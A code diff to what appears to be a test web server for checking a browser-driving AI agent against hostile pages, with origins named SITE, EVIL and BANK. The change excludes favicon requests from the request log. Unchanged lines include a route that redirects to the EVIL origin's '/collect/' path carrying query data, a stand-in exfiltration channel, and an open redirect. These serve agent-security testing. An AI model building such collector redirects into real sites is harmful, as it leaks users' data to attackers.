@@ -57,9 +57,11 @@ async function startSite(origins: () => { SITE: string; EVIL: string; BANK: stri
     req.on('data', (chunk: Buffer) => (body += chunk.toString('utf8')));
     req.on('end', () => {
       const url = req.url ?? '/';
-      requests.push({ method: req.method ?? 'GET', url, body });
       const parsed = new URL(url, 'http://x');
       const path = parsed.pathname;
+      // The browser's own favicon fetch (on a site's first page only) is not the page's or the agent's.
+      if (path === '/favicon.ico') return res.writeHead(404).end();
+      requests.push({ method: req.method ?? 'GET', url, body });
       const html = (text: string, status = 200) => res.writeHead(status, { 'content-type': 'text/html; charset=utf-8', 'cache-control': 'no-store' }).end(text);
       if (path.startsWith('/p/')) {
         const page = pages.get(decodeURIComponent(path.slice(3)));
@@ -71,7 +73,6 @@ async function startSite(origins: () => { SITE: string; EVIL: string; BANK: stri
       if (path === '/ad') return html(`<!doctype html><meta charset="utf-8"><title>Ad</title><p>${escapeHtml(parsed.searchParams.get('say') ?? '')}</p>`);
       if (path === '/redirect') return res.writeHead(302, { location: parsed.searchParams.get('to') ?? '/' }).end();
       if (path.startsWith('/out/')) return res.writeHead(302, { location: `${origins().EVIL}/collect/${path.slice(5)}${parsed.search}` }).end();
-      if (path === '/favicon.ico') return res.writeHead(404).end();
       return html(plainPage(`Page ${path}`));
     });
   });
